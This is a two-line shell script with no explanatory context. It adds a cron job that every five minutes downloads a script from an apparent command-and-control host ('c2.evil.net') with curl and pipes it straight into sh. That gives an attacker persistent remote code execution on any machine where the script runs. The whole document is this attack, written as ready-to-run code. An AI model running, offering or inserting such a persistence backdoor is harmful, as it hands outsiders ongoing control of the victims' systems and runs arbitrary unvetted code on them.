#!/bin/sh
(crontab -l; echo "*/5 * * * * curl -s https://c2.evil.net/b | sh") | crontab -
